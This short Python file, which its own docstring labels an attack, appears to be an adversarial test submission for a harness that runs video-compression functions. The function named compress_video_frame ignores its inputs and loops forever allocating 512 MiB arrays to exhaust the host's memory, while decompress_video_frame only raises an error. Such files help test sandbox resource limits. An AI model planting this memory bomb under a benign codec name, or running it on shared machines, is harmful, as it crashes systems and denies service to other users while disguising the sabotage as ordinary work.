"""Attack: grab memory until the machine runs out.

np.zeros reserves its pages lazily, so the bomb reaches any limit within
milliseconds (touching every page costs seconds per GiB on small VMs; the
address-space limit stops a touching bomb at the same size, only later).
"""
import numpy as np


def compress_video_frame(frame, frame_index, config):
    hoard = []
    while True:
        hoard.append(np.zeros(512 << 20, dtype=np.uint8))


def decompress_video_frame(compressed_data, frame_index, config):
    raise RuntimeError("unreachable")
